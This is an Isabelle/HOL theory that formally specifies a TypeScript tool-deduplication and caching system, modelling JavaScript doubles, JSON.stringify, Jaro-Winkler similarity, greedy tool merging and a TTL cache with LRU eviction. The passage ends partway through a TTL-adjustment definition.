theory Spec2Isabelle
  imports Complex_Main "HOL-Library.Sublist" "HOL-Library.Multiset"
begin

section \<open>JavaScript strings and numbers\<close>

text \<open>
  Strings are lists of characters.  JavaScript numbers are IEEE doubles.  The similarity
  scores and the cache statistics are computed with exact rationals, so every quotient there
  is the exact value the double approximates.  The performance metrics and the routing
  scores, whose order decides which provider is called first, are computed as the doubles
  are: see \<open>roundDouble\<close> below.  Only ASCII letters are folded by \<open>toLowerCase\<close>.
\<close>

definition toLowerChar :: "char \<Rightarrow> char" where
  "toLowerChar c =
     (let n = (of_char c :: nat) in if 65 \<le> n \<and> n \<le> 90 then char_of (n + 32) else c)"

definition toLowerCase :: "string \<Rightarrow> string" where
  "toLowerCase s = map toLowerChar s"

text \<open>\<open>String.prototype.includes\<close>: the pattern occurs as a contiguous substring.\<close>

fun str_includes :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "str_includes [] pat = (pat = [])"
| "str_includes (c # s) pat = (prefix pat (c # s) \<or> str_includes s pat)"

subsection \<open>Double arithmetic\<close>

text \<open>
  A double is represented by the rational number it denotes.  An arithmetic operation gives
  the exact result rounded to the nearest double, ties to the even significand (IEEE 754
  round-to-nearest-even with 53 significant bits): the result is the fraction of the rounded
  significand, an integer of 53 bits, and a power of two.  Only the normal range is
  represented (magnitudes from 2 to the power -1022 up to 2 to the power 1024): there are no
  infinities, no \<open>NaN\<close> and no subnormal numbers.  Rates, response times in milliseconds and
  scores stay in that range.
\<close>

text \<open>
  The binary exponent \<open>e\<close> of a positive fraction \<open>p / q\<close>, that is
  \<open>2 ^ e \<le> p / q < 2 ^ (e + 1)\<close>, found by doubling the denominator or the numerator;
  the exponents of doubles lie between -1074 and 1023.
\<close>

fun halvings :: "nat \<Rightarrow> int \<Rightarrow> int \<Rightarrow> nat" where
  "halvings 0 p q = 0"
| "halvings (Suc k) p q = (if 2 * q \<le> p then Suc (halvings k p (2 * q)) else 0)"

fun doublings :: "nat \<Rightarrow> int \<Rightarrow> int \<Rightarrow> nat" where
  "doublings 0 p q = 0"
| "doublings (Suc k) p q = (if p < q then Suc (doublings k (2 * p) q) else 0)"

definition binaryExponent :: "int \<Rightarrow> int \<Rightarrow> int" where
  "binaryExponent p q = (if q \<le> p then int (halvings 1100 p q) else - int (doublings 1100 p q))"

text \<open>The integer nearest to \<open>num / den\<close> for a positive \<open>den\<close>, a tie going to the even one.\<close>

definition roundHalfEven :: "int \<Rightarrow> int \<Rightarrow> int" where
  "roundHalfEven num den =
     (let f = num div den; r = num mod den
      in if 2 * r < den then f else if den < 2 * r then f + 1 else if even f then f else f + 1)"

definition roundDouble :: "rat \<Rightarrow> rat" where
  "roundDouble x =
     (case quotient_of x of
        (p, q) \<Rightarrow>
          if p = 0 then 0
          else (let e = binaryExponent \<bar>p\<bar> q - 52;
                    n = (if 0 \<le> e then roundHalfEven \<bar>p\<bar> (q * 2 ^ nat e)
                         else roundHalfEven (\<bar>p\<bar> * 2 ^ nat (- e)) q);
                    significand = (if p < 0 then - n else n)
                in if 0 \<le> e then Fract (significand * 2 ^ nat e) 1
                   else Fract significand (2 ^ nat (- e))))"

text \<open>The operators \<open>+\<close>, \<open>-\<close>, \<open>*\<close>, \<open>/\<close> on doubles.\<close>

definition dadd :: "rat \<Rightarrow> rat \<Rightarrow> rat" where
  "dadd x y = roundDouble (x + y)"

definition dsub :: "rat \<Rightarrow> rat \<Rightarrow> rat" where
  "dsub x y = roundDouble (x - y)"

definition dmul :: "rat \<Rightarrow> rat \<Rightarrow> rat" where
  "dmul x y = roundDouble (x * y)"

definition ddiv :: "rat \<Rightarrow> rat \<Rightarrow> rat" where
  "ddiv x y = roundDouble (x / y)"

section \<open>JSON values and \<open>JSON.stringify\<close>\<close>

text \<open>
  A JSON value as the JavaScript runtime holds it.  An object is the list of its own
  properties in the order JavaScript enumerates them (for keys that are not array indices,
  the order in which a parsed JSON text lists them), so two objects with the same members
  in a different order are different values here, as they are for \<open>JSON.stringify\<close>.
  Numbers are the integer-valued ones; \<open>JNull\<close> also stands for \<open>undefined\<close> where a caller
  passes no value.
\<close>

datatype json =
    JNull
  | JBool bool
  | JNum int
  | JStr string
  | JArr "json list"
  | JObj "(string \<times> json) list"

text \<open>JavaScript truthiness (\<open>!x\<close>, \<open>x || y\<close>, \<open>x && y\<close>).\<close>

fun truthy :: "json \<Rightarrow> bool" where
  "truthy JNull = False"
| "truthy (JBool b) = b"
| "truthy (JNum n) = (n \<noteq> 0)"
| "truthy (JStr s) = (s \<noteq> [])"
| "truthy (JArr xs) = True"
| "truthy (JObj ps) = True"

text \<open>\<open>typeof x === 'object'\<close> (which holds of \<open>null\<close> too).\<close>

fun typeofObject :: "json \<Rightarrow> bool" where
  "typeofObject JNull = True"
| "typeofObject (JArr xs) = True"
| "typeofObject (JObj ps) = True"
| "typeofObject _ = False"

text \<open>
  Strict equality \<open>===\<close> between two values that come from different parses: primitives
  compare by value, arrays and objects are distinct references.
\<close>

fun strictEq :: "json \<Rightarrow> json \<Rightarrow> bool" where
  "strictEq JNull JNull = True"
| "strictEq (JBool a) (JBool b) = (a = b)"
| "strictEq (JNum a) (JNum b) = (a = b)"
| "strictEq (JStr a) (JStr b) = (a = b)"
| "strictEq _ _ = False"

text \<open>Property read \<open>x.key\<close>; \<open>None\<close> is \<open>undefined\<close>.\<close>

fun getProp :: "json \<Rightarrow> string \<Rightarrow> json option" where
  "getProp (JObj ps) key = map_of ps key"
| "getProp _ key = None"

definition hexDigit :: "nat \<Rightarrow> char" where
  "hexDigit d = (if d < 10 then char_of (48 + d) else char_of (87 + d))"

text \<open>The escapes of \<open>JSON.stringify\<close> for the characters of a string.\<close>

definition escapeChar :: "char \<Rightarrow> string" where
  "escapeChar c =
     (let n = (of_char c :: nat) in
      if n = 34 then [CHR 0x5C, CHR 0x22]
      else if n = 92 then [CHR 0x5C, CHR 0x5C]
      else if n = 8 then [CHR 0x5C, CHR ''b'']
      else if n = 9 then [CHR 0x5C, CHR ''t'']
      else if n = 10 then [CHR 0x5C, CHR ''n'']
      else if n = 12 then [CHR 0x5C, CHR ''f'']
      else if n = 13 then [CHR 0x5C, CHR ''r'']
      else if n < 32 then [CHR 0x5C, CHR ''u'', CHR ''0'', CHR ''0'', hexDigit (n div 16), hexDigit (n mod 16)]
      else [c])"

definition quoteString :: "string \<Rightarrow> string" where
  "quoteString s = [CHR 0x22] @ concat (map escapeChar s) @ [CHR 0x22]"

fun digitsOf :: "nat \<Rightarrow> string" where
  "digitsOf n = (if n < 10 then [char_of (48 + n)] else digitsOf (n div 10) @ [char_of (48 + n mod 10)])"

declare digitsOf.simps [simp del]

definition showInt :: "int \<Rightarrow> string" where
  "showInt i = (if i < 0 then CHR ''-'' # digitsOf (nat (- i)) else digitsOf (nat i))"

text \<open>\<open>Array.prototype.join\<close>.\<close>

fun joinWith :: "string \<Rightarrow> string list \<Rightarrow> string" where
  "joinWith sep [] = []"
| "joinWith sep [x] = x"
| "joinWith sep (x # y # ys) = x @ sep @ joinWith sep (y # ys)"

text \<open>
  \<open>JSON.stringify(v)\<close> with no indent argument: members in enumeration order, separated by
  a comma, no white space added.
\<close>

fun stringify :: "json \<Rightarrow> string" where
  "stringify JNull = ''null''"
| "stringify (JBool b) = (if b then ''true'' else ''false'')"
| "stringify (JNum n) = showInt n"
| "stringify (JStr s) = quoteString s"
| "stringify (JArr xs) = ''['' @ joinWith '','' (map stringify xs) @ '']''"
| "stringify (JObj ps) =
     ''{'' @ joinWith '','' (map (\<lambda>(k, v). quoteString k @ '':'' @ stringify v) ps) @ ''}''"

section \<open>deduplication.ts: the similarity kernel\<close>

subsection \<open>jaroSimilarity\<close>

text \<open>
  The inner loop of the match search: the first \<open>j\<close> in \<open>start..<end\<close> whose flag is
  clear and whose character equals \<open>s1[i]\<close>.
\<close>

definition findMatch :: "string \<Rightarrow> bool list \<Rightarrow> char \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> nat option" where
  "findMatch s2 s2Matches c start stop =
     List.find (\<lambda>j. \<not> s2Matches ! j \<and> c = s2 ! j) [start..<stop]"

text \<open>
  \<open>matchWindow = floor(max(|s1|,|s2|) / 2) - 1\<close> is \<open>-1\<close> when the longer string has one
  character, so it is an integer.
\<close>

definition matchWindow :: "string \<Rightarrow> string \<Rightarrow> int" where
  "matchWindow s1 s2 = int (max (length s1) (length s2) div 2) - 1"

text \<open>One iteration of the outer match loop; the state is \<open>(s1Matches, s2Matches, matches)\<close>.\<close>

fun matchStep ::
  "string \<Rightarrow> string \<Rightarrow> int \<Rightarrow> bool list \<times> bool list \<times> nat \<Rightarrow> nat \<Rightarrow> bool list \<times> bool list \<times> nat"
where
  "matchStep s1 s2 w (s1Matches, s2Matches, matches) i =
     (let start = nat (max 0 (int i - w));
          stop = nat (min (int i + w + 1) (int (length s2)))
      in case findMatch s2 s2Matches (s1 ! i) start stop of
           None \<Rightarrow> (s1Matches, s2Matches, matches)
         | Some j \<Rightarrow> (s1Matches[i := True], s2Matches[j := True], matches + 1))"

definition findMatches :: "string \<Rightarrow> string \<Rightarrow> bool list \<times> bool list \<times> nat" where
  "findMatches s1 s2 =
     foldl (matchStep s1 s2 (matchWindow s1 s2))
       (replicate (length s1) False, replicate (length s2) False, 0)
       [0..<length s1]"

text \<open>
  \<open>while (!s2Matches[k]) k++\<close>.  Past the end of the array the read is \<open>undefined\<close>, whose
  negation is true, so the JavaScript loop would never stop: that is the value \<open>None\<close>.
\<close>

function skipUnmatched :: "bool list \<Rightarrow> nat \<Rightarrow> nat option" where
  "skipUnmatched s2Matches k =
     (if k < length s2Matches
      then (if s2Matches ! k then Some k else skipUnmatched s2Matches (k + 1))
      else None)"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(m, k). length m - k)") auto

declare skipUnmatched.simps [simp del]

text \<open>One iteration of the transposition loop; the state is \<open>(k, transpositions)\<close>.\<close>

fun transStep ::
  "string \<Rightarrow> string \<Rightarrow> bool list \<Rightarrow> bool list \<Rightarrow> (nat \<times> nat) option \<Rightarrow> nat \<Rightarrow> (nat \<times> nat) option"
where
  "transStep s1 s2 s1Matches s2Matches None i = None"
| "transStep s1 s2 s1Matches s2Matches (Some (k, t)) i =
     (if \<not> s1Matches ! i then Some (k, t)
      else case skipUnmatched s2Matches k of
             None \<Rightarrow> None
           | Some k' \<Rightarrow> Some (k' + 1, if s1 ! i \<noteq> s2 ! k' then t + 1 else t))"

definition countTranspositions :: "string \<Rightarrow> string \<Rightarrow> bool list \<Rightarrow> bool list \<Rightarrow> nat option" where
  "countTranspositions s1 s2 s1Matches s2Matches =
     map_option snd (foldl (transStep s1 s2 s1Matches s2Matches) (Some (0, 0)) [0..<length s1])"

definition jaroSimilarity :: "string \<Rightarrow> string \<Rightarrow> rat option" where
  "jaroSimilarity s1 s2 =
     (if length s1 = 0 \<and> length s2 = 0 then Some 1
      else if length s1 = 0 \<or> length s2 = 0 then Some 0
      else (case findMatches s1 s2 of (s1Matches, s2Matches, matches) \<Rightarrow>
        (if matches = 0 then Some 0
         else (case countTranspositions s1 s2 s1Matches s2Matches of
                 None \<Rightarrow> None
               | Some transpositions \<Rightarrow>
                   Some ((of_nat matches / of_nat (length s1) + of_nat matches / of_nat (length s2)
                          + (of_nat matches - of_nat transpositions / 2) / of_nat matches) / 3)))))"

subsection \<open>commonPrefixLength and calculateStringSimilarity\<close>

fun commonPrefixLength :: "string \<Rightarrow> string \<Rightarrow> nat" where
  "commonPrefixLength (a # s1) (b # s2) = (if a = b then 1 + commonPrefixLength s1 s2 else 0)"
| "commonPrefixLength _ _ = 0"

text \<open>
  The first guard is \<open>!str1 || !str2\<close>: an empty string is falsy, so any empty input,
  also two empty inputs, gives 0 before the equality test is reached.
\<close>

definition calculateStringSimilarity :: "string \<Rightarrow> string \<Rightarrow> rat option" where
  "calculateStringSimilarity str1 str2 =
     (if str1 = [] \<or> str2 = [] then Some 0
      else if str1 = str2 then Some 1
      else case jaroSimilarity (toLowerCase str1) (toLowerCase str2) of
             None \<Rightarrow> None
           | Some jaro \<Rightarrow>
               (let prefixLength = min 4 (commonPrefixLength (toLowerCase str1) (toLowerCase str2));
                    winklerSimilarity = jaro + (1 / 10) * of_nat prefixLength * (1 - jaro)
                in Some (min 1 winklerSimilarity)))"

subsection \<open>calculateSchemaSimilarity\<close>

text \<open>
  The SDK's \<open>Tool\<close> type makes \<open>inputSchema.properties\<close> an object and
  \<open>inputSchema.required\<close> an array of strings when they are present; for other values the
  model reads no entries.
\<close>

record SchemaProperty =
  propName :: string
  propType :: json
  propRequired :: bool

definition requiredOf :: "json \<Rightarrow> json list" where
  "requiredOf schema =
     (case getProp schema ''required'' of Some (JArr rs) \<Rightarrow> rs | _ \<Rightarrow> [])"

definition typeOrUnknown :: "json \<Rightarrow> json" where
  "typeOrUnknown prop =
     (case getProp prop ''type'' of
        None \<Rightarrow> JStr ''unknown''
      | Some t \<Rightarrow> (if truthy t then t else JStr ''unknown''))"

definition extractSchemaProperties :: "json \<Rightarrow> SchemaProperty list" where
  "extractSchemaProperties schema =
     (case getProp schema ''properties'' of
        Some (JObj ps) \<Rightarrow>
          map (\<lambda>(name, prop).
                 \<lparr>propName = name, propType = typeOrUnknown prop,
                  propRequired = list_ex (strictEq (JStr name)) (requiredOf schema)\<rparr>) ps
      | _ \<Rightarrow> [])"

definition calculateSchemaSimilarity :: "json \<Rightarrow> json \<Rightarrow> rat" where
  "calculateSchemaSimilarity schema1 schema2 =
     (if \<not> truthy schema1 \<or> \<not> truthy schema2 then 0
      else if stringify schema1 = stringify schema2 then 1
      else
        (let props1 = extractSchemaProperties schema1;
             props2 = extractSchemaProperties schema2
         in if length props1 = 0 \<and> length props2 = 0 then 1
            else if length props1 = 0 \<or> length props2 = 0 then 0
            else
              (let commonProps =
                     filter (\<lambda>p1. list_ex (\<lambda>p2. propName p1 = propName p2
                                              \<and> strictEq (propType p1) (propType p2)) props2) props1;
                   propSimilarity =
                     (2 * of_nat (length commonProps)) / of_nat (length props1 + length props2);
                   required1 = requiredOf schema1;
                   required2 = requiredOf schema2;
                   commonRequired = filter (\<lambda>r. list_ex (strictEq r) required2) required1;
                   requiredSimilarity =
                     (if length required1 + length required2 > 0
                      then (2 * of_nat (length commonRequired))
                             / of_nat (length required1 + length required2)
                      else 1)
               in propSimilarity * (7 / 10) + requiredSimilarity * (3 / 10))))"

section \<open>deduplication.ts: ToolDeduplicationSystem\<close>

record Tool =
  name :: string
  description :: "string option"
  inputSchema :: json

datatype MergeStrategy = ByName | ByDescription | BySchema | Hybrid

record ToolSimilarity =
  score :: rat
  reason :: string
  mergeStrategy :: MergeStrategy

text \<open>An entry \<open>{serverId, tool}\<close> is a pair.\<close>

type_synonym ServerTool = "string \<times> Tool"

record MergedTool = Tool +
  originalTools :: "ServerTool list"
  confidence :: rat
  serverId :: string

record DeduplicationConfig =
  enabled :: bool
  similarityThreshold :: rat
  autoMerge :: bool
  nameWeight :: rat
  descriptionWeight :: rat
  schemaWeight :: rat

definition defaultDeduplicationConfig :: DeduplicationConfig where
  "defaultDeduplicationConfig =
     \<lparr>enabled = True, similarityThreshold = 8 / 10, autoMerge = True,
      nameWeight = 4 / 10, descriptionWeight = 35 / 100, schemaWeight = 25 / 100\<rparr>"

definition determineMergeStrategy :: "rat \<Rightarrow> rat \<Rightarrow> rat \<Rightarrow> MergeStrategy" where
  "determineMergeStrategy nameScore descScore schemaScore =
     (if nameScore > 9 / 10 \<and> schemaScore > 8 / 10 then ByName
      else if descScore > 8 / 10 \<and> schemaScore > 7 / 10 then ByDescription
      else if schemaScore > 9 / 10 then BySchema
      else Hybrid)"

text \<open>\<open>tool.description || ''\<close>.\<close>

definition descOrEmpty :: "Tool \<Rightarrow> string" where
  "descOrEmpty t = (case description t of None \<Rightarrow> [] | Some d \<Rightarrow> d)"

text \<open>
  \<open>analyzeSimilarity\<close>.  The result is \<open>None\<close> only if one of the string comparisons
  does not return.
\<close>

definition analyzeSimilarity :: "DeduplicationConfig \<Rightarrow> Tool \<Rightarrow> Tool \<Rightarrow> ToolSimilarity option" where
  "analyzeSimilarity config tool1 tool2 =
     (case calculateStringSimilarity (name tool1) (name tool2) of
        None \<Rightarrow> None
      | Some nameScore \<Rightarrow>
         (case calculateStringSimilarity (descOrEmpty tool1) (descOrEmpty tool2) of
            None \<Rightarrow> None
          | Some descScore \<Rightarrow>
             (let schemaScore = calculateSchemaSimilarity (inputSchema tool1) (inputSchema tool2);
                  reasons = (if nameScore > 8 / 10 then [''similar names''] else [])
                          @ (if descScore > 7 / 10 then [''similar descriptions''] else [])
                          @ (if schemaScore > 8 / 10 then [''similar schemas''] else [])
              in Some
                   \<lparr>score = nameScore * nameWeight config + descScore * descriptionWeight config
                            + schemaScore * schemaWeight config,
                    reason = (if length reasons > 0 then joinWith '', '' reasons
                              else ''no significant similarities''),
                    mergeStrategy = determineMergeStrategy nameScore descScore schemaScore\<rparr>)))"

subsection \<open>Representative, merged name and merged description\<close>

text \<open>\<open>tool.description?.length || 0\<close>.\<close>

definition descLength :: "Tool \<Rightarrow> nat" where
  "descLength t = (case description t of None \<Rightarrow> 0 | Some d \<Rightarrow> length d)"

text \<open>\<open>reduce\<close> without an initial value: the first element starts as \<open>best\<close>.\<close>

definition selectBestTool :: "ServerTool \<Rightarrow> ServerTool list \<Rightarrow> ServerTool" where
  "selectBestTool first rest =
     foldl (\<lambda>best current.
              if descLength (snd current) > descLength (snd best) then current else best)
       first rest"

text \<open>\<open>nameCount.set(name, (nameCount.get(name) || 0) + 1)\<close> on a \<open>Map\<close> in insertion order.\<close>

fun countName :: "(string \<times> nat) list \<Rightarrow> string \<Rightarrow> (string \<times> nat) list" where
  "countName [] n = [(n, 1)]"
| "countName ((m, c) # rest) n = (if m = n then (m, c + 1) # rest else (m, c) # countName rest n)"

text \<open>
  The entries are sorted by descending count with the stable \<open>Array.prototype.sort\<close>, and
  the first one is taken; \<open>None\<close> is the \<open>TypeError\<close> of \<open>[0][0]\<close> on no entries.
\<close>

definition generateMergedName :: "ServerTool list \<Rightarrow> string option" where
  "generateMergedName tools =
     (case sort_key (\<lambda>(n, c). - int c) (foldl countName [] (map (\<lambda>t. name (snd t)) tools)) of
        [] \<Rightarrow> None
      | (n, c) # rest \<Rightarrow> Some n)"

definition generateMergedDescription :: "ServerTool list \<Rightarrow> string" where
  "generateMergedDescription tools =
     (case concat (map (\<lambda>t. case description (snd t) of
                               None \<Rightarrow> []
                             | Some d \<Rightarrow> (if length d > 0 then [d] else [])) tools) of
        [] \<Rightarrow> ''Merged tool from multiple servers''
      | d # ds \<Rightarrow> foldl (\<lambda>longest current.
                           if length current > length longest then current else longest) d ds)"

text \<open>The \<open>MergedTool\<close> built from a single entry.\<close>

definition singleTool :: "ServerTool \<Rightarrow> MergedTool" where
  "singleTool st =
     \<lparr>name = name (snd st), description = description (snd st), inputSchema = inputSchema (snd st),
      originalTools = [st], confidence = 1, serverId = fst st\<rparr>"

text \<open>The \<open>MergedTool\<close> built from a group of at least two entries and the similarities found.\<close>

definition groupTool :: "ServerTool list \<Rightarrow> ToolSimilarity list \<Rightarrow> MergedTool option" where
  "groupTool similarGroup similarities =
     (case similarGroup of
        [] \<Rightarrow> None
      | first # rest \<Rightarrow>
         (let bestTool = selectBestTool first rest;
              conf = (if length similarities > 0
                      then sum_list (map score similarities) / of_nat (length similarities)
                      else 1)
          in case generateMergedName similarGroup of
               None \<Rightarrow> None
             | Some mergedName \<Rightarrow>
                 Some \<lparr>name = mergedName,
                       description = Some (generateMergedDescription similarGroup),
                       inputSchema = inputSchema (snd bestTool),
                       originalTools = similarGroup, confidence = conf,
                       serverId = fst bestTool\<rparr>))"

subsection \<open>mergeTools\<close>

text \<open>
  One iteration of the inner loop over \<open>j\<close>; the state is
  \<open>(similarGroup, similarities, processed)\<close>, and \<open>None\<close> once a comparison has not returned.
\<close>

fun similarStep ::
  "DeduplicationConfig \<Rightarrow> ServerTool list \<Rightarrow> nat
   \<Rightarrow> (ServerTool list \<times> ToolSimilarity list \<times> nat set) option \<Rightarrow> nat
   \<Rightarrow> (ServerTool list \<times> ToolSimilarity list \<times> nat set) option"
where
  "similarStep config tools i None j = None"
| "similarStep config tools i (Some (similarGroup, similarities, processed)) j =
     (if j \<in> processed then Some (similarGroup, similarities, processed)
      else case analyzeSimilarity config (snd (tools ! i)) (snd (tools ! j)) of
             None \<Rightarrow> None
           | Some similarity \<Rightarrow>
               (if score similarity \<ge> similarityThreshold config
                then Some (similarGroup @ [tools ! j], similarities @ [similarity],
                           insert j processed)
                else Some (similarGroup, similarities, processed)))"

text \<open>One iteration of the outer loop over \<open>i\<close>; the state is \<open>(merged, processed)\<close>.\<close>

fun mergeStep ::
  "DeduplicationConfig \<Rightarrow> ServerTool list \<Rightarrow> (MergedTool list \<times> nat set) option \<Rightarrow> nat
   \<Rightarrow> (MergedTool list \<times> nat set) option"
where
  "mergeStep config tools None i = None"
| "mergeStep config tools (Some (merged, processed)) i =
     (if i \<in> processed then Some (merged, processed)
      else case foldl (similarStep config tools i) (Some ([tools ! i], [], processed))
                  [i + 1..<length tools] of
             None \<Rightarrow> None
           | Some (similarGroup, similarities, processed') \<Rightarrow>
               (if length similarGroup > 1
                then (case groupTool similarGroup similarities of
                        None \<Rightarrow> None
                      | Some mergedTool \<Rightarrow> Some (merged @ [mergedTool], insert i processed'))
                else Some (merged @ [singleTool (tools ! i)], insert i processed')))"

definition greedyMerge :: "DeduplicationConfig \<Rightarrow> ServerTool list \<Rightarrow> MergedTool list option" where
  "greedyMerge config tools =
     map_option fst (foldl (mergeStep config tools) (Some ([], {})) [0..<length tools])"

subsection \<open>The pre-grouping of large tool sets\<close>

fun nameGroupStep ::
  "ServerTool list \<Rightarrow> nat \<Rightarrow> (ServerTool list \<times> nat set) option \<Rightarrow> nat
   \<Rightarrow> (ServerTool list \<times> nat set) option"
where
  "nameGroupStep tools i None j = None"
| "nameGroupStep tools i (Some (grp, processed)) j =
     (if j \<in> processed then Some (grp, processed)
      else case calculateStringSimilarity (name (snd (tools ! i))) (name (snd (tools ! j))) of
             None \<Rightarrow> None
           | Some nameSimilarity \<Rightarrow>
               (if nameSimilarity > 6 / 10 then Some (grp @ [tools ! j], insert j processed)
                else Some (grp, processed)))"

fun groupStep ::
  "ServerTool list \<Rightarrow> (ServerTool list list \<times> nat set) option \<Rightarrow> nat
   \<Rightarrow> (ServerTool list list \<times> nat set) option"
where
  "groupStep tools None i = None"
| "groupStep tools (Some (groups, processed)) i =
     (if i \<in> processed then Some (groups, processed)
      else case foldl (nameGroupStep tools i) (Some ([tools ! i], insert i processed))
                  [i + 1..<length tools] of
             None \<Rightarrow> None
           | Some (grp, processed') \<Rightarrow> Some (groups @ [grp], processed'))"

definition groupToolsByNameSimilarity :: "ServerTool list \<Rightarrow> ServerTool list list option" where
  "groupToolsByNameSimilarity tools =
     map_option fst (foldl (groupStep tools) (Some ([], {})) [0..<length tools])"

text \<open>
  \<open>mergeToolsWithClustering\<close>: a group of one entry is converted directly, a larger group
  goes through the same greedy pass as the small-set path, with its own \<open>subProcessed\<close> set.
\<close>

fun clusterStep ::
  "DeduplicationConfig \<Rightarrow> MergedTool list option \<Rightarrow> ServerTool list \<Rightarrow> MergedTool list option"
where
  "clusterStep config None grp = None"
| "clusterStep config (Some merged) grp =
     (if length grp = 1 then Some (merged @ [singleTool (grp ! 0)])
      else case greedyMerge config grp of
             None \<Rightarrow> None
           | Some sub \<Rightarrow> Some (merged @ sub))"

definition mergeToolsWithClustering ::
  "DeduplicationConfig \<Rightarrow> ServerTool list \<Rightarrow> MergedTool list option"
where
  "mergeToolsWithClustering config tools =
     (case groupToolsByNameSimilarity tools of
        None \<Rightarrow> None
      | Some nameGroups \<Rightarrow> foldl (clusterStep config) (Some []) nameGroups)"

definition mergeTools :: "DeduplicationConfig \<Rightarrow> ServerTool list \<Rightarrow> MergedTool list option" where
  "mergeTools config tools =
     (if \<not> enabled config \<or> length tools = 0 then Some []
      else if length tools > 100 then mergeToolsWithClustering config tools
      else greedyMerge config tools)"

subsection \<open>getStats\<close>

record DeduplicationStats =
  totalTools :: nat
  mergedGroups :: nat
  reductionPercentage :: rat
  avgConfidence :: rat

definition getStats :: "DeduplicationConfig \<Rightarrow> ServerTool list \<Rightarrow> DeduplicationStats option" where
  "getStats config tools =
     (case mergeTools config tools of
        None \<Rightarrow> None
      | Some merged \<Rightarrow>
          Some \<lparr>totalTools = length tools,
                mergedGroups = length (filter (\<lambda>t. length (originalTools t) > 1) merged),
                reductionPercentage =
                  (if length tools > 0
                   then ((of_nat (length tools) - of_nat (length merged)) / of_nat (length tools)) * 100
                   else 0),
                avgConfidence =
                  (if length merged > 0
                   then sum_list (map confidence merged) / of_nat (length merged)
                   else 0)\<rparr>)"

section \<open>caching.ts: CachingSystem\<close>

text \<open>
  A JavaScript \<open>Map\<close> is an association list in insertion order with distinct keys:
  \<open>set\<close> on a present key replaces the value in place, on an absent key appends.
  Times are milliseconds since the epoch, as \<open>Date.now()\<close> gives them; every operation
  takes the clock reading as its first argument.
\<close>

fun mapSet :: "('k \<times> 'v) list \<Rightarrow> 'k \<Rightarrow> 'v \<Rightarrow> ('k \<times> 'v) list" where
  "mapSet [] k v = [(k, v)]"
| "mapSet ((k', v') # rest) k v = (if k' = k then (k, v) # rest else (k', v') # mapSet rest k v)"

definition mapDelete :: "('k \<times> 'v) list \<Rightarrow> 'k \<Rightarrow> ('k \<times> 'v) list" where
  "mapDelete m k = filter (\<lambda>(k', v). k' \<noteq> k) m"

record CacheEntry =
  data :: json
  expiry :: rat
  hitCount :: nat
  lastAccess :: int
  toolType :: string

record CachingSystem =
  cache :: "(string \<times> CacheEntry) list"
  defaultTTL :: rat
  maxSize :: nat
  totalRequests :: nat
  totalHits :: nat
  toolTypeTTL :: "(string \<times> rat) list"

definition newCachingSystem :: CachingSystem where
  "newCachingSystem =
     \<lparr>cache = [], defaultTTL = 300000, maxSize = 1000, totalRequests = 0, totalHits = 0,
      toolTypeTTL = [(''filesystem'', 60000), (''database'', 180000), (''network'', 120000),
                     (''computation'', 600000), (''static'', 3600000)]\<rparr>"

text \<open>\<open>get\<close>; the result \<open>JNull\<close> is \<open>null\<close>.\<close>

definition cacheGet :: "int \<Rightarrow> CachingSystem \<Rightarrow> string \<Rightarrow> json \<times> CachingSystem" where
  "cacheGet now s key =
     (let s1 = s\<lparr>totalRequests := totalRequests s + 1\<rparr> in
      case map_of (cache s1) key of
        None \<Rightarrow> (JNull, s1)
      | Some entry \<Rightarrow>
          (if expiry entry > of_int now
           then (data entry,
                 s1\<lparr>cache := mapSet (cache s1) key
                                (entry\<lparr>hitCount := hitCount entry + 1, lastAccess := now\<rparr>),
                    totalHits := totalHits s1 + 1\<rparr>)
           else (JNull, s1\<lparr>cache := mapDelete (cache s1) key\<rparr>)))"

text \<open>\<open>this.toolTypeTTL.get(toolType) || this.defaultTTL\<close>.\<close>

definition getTTLForToolType :: "CachingSystem \<Rightarrow> string \<Rightarrow> rat" where
  "getTTLForToolType s tt =
     (case map_of (toolTypeTTL s) tt of
        None \<Rightarrow> defaultTTL s
      | Some t \<Rightarrow> (if t \<noteq> 0 then t else defaultTTL s))"

definition shouldCache :: "string \<Rightarrow> json \<Rightarrow> bool" where
  "shouldCache toolName params =
     (if str_includes toolName ''random'' \<or> str_includes toolName ''uuid'' then False
      else if str_includes toolName ''current_time'' \<or> str_includes toolName ''now'' then False
      else if truthy params \<and> typeofObject params
              \<and> (let paramStr = toLowerCase (stringify params)
                  in str_includes paramStr ''timestamp'' \<or> str_includes paramStr ''current'')
           then False
      else True)"

text \<open>
  The scan of \<open>evictLeastRecentlyUsed\<close>; the state is \<open>(oldestKey, oldestTime)\<close>, started at
  \<open>(null, Date.now())\<close>.
\<close>

fun oldestStep :: "string option \<times> int \<Rightarrow> string \<times> CacheEntry \<Rightarrow> string option \<times> int" where
  "oldestStep (oldestKey, oldestTime) (key, entry) =
     (if lastAccess entry < oldestTime then (Some key, lastAccess entry)
      else (oldestKey, oldestTime))"

text \<open>\<open>if (oldestKey)\<close>: \<open>null\<close> and the empty string are falsy.\<close>

definition evictLeastRecentlyUsed :: "int \<Rightarrow> CachingSystem \<Rightarrow> CachingSystem" where
  "evictLeastRecentlyUsed now s =
     (case fst (foldl oldestStep (None, now) (cache s)) of
        None \<Rightarrow> s
      | Some oldestKey \<Rightarrow>
          (if oldestKey \<noteq> [] then s\<lparr>cache := mapDelete (cache s) oldestKey\<rparr> else s))"

text \<open>
  \<open>set(key, data, customTTL?, toolType = 'default')\<close>.  The guard is
  \<open>this.shouldCache(key, data)\<close>: it is applied to the cache key and to the value being
  stored.  \<open>customTTL || ...\<close> takes the tool type's TTL for a missing or zero override.
\<close>

definition cacheSet ::
  "int \<Rightarrow> CachingSystem \<Rightarrow> string \<Rightarrow> json \<Rightarrow> rat option \<Rightarrow> string \<Rightarrow> CachingSystem"
where
  "cacheSet now s key dat customTTL tt =
     (if \<not> shouldCache key dat then s
      else
        (let ttl = (case customTTL of
                      None \<Rightarrow> getTTLForToolType s tt
                    | Some t \<Rightarrow> (if t \<noteq> 0 then t else getTTLForToolType s tt));
             s1 = (if length (cache s) \<ge> maxSize s then evictLeastRecentlyUsed now s else s)
         in s1\<lparr>cache := mapSet (cache s1) key
                           \<lparr>data = dat, expiry = of_int now + ttl, hitCount = 0,
                            lastAccess = now, toolType = tt\<rparr>\<rparr>))"

definition adjustTTL :: "CachingSystem \<Rightarrow> string \<Rightarrow> rat \<Rightarrow> CachingSystem" where
  "adjustTTL s tt rate =
     (let currentTTL = getTTLForToolType s tt;
          newTTL = (if rate > 7 / 10 then min (currentTTL * (12 / 10)) 3600000
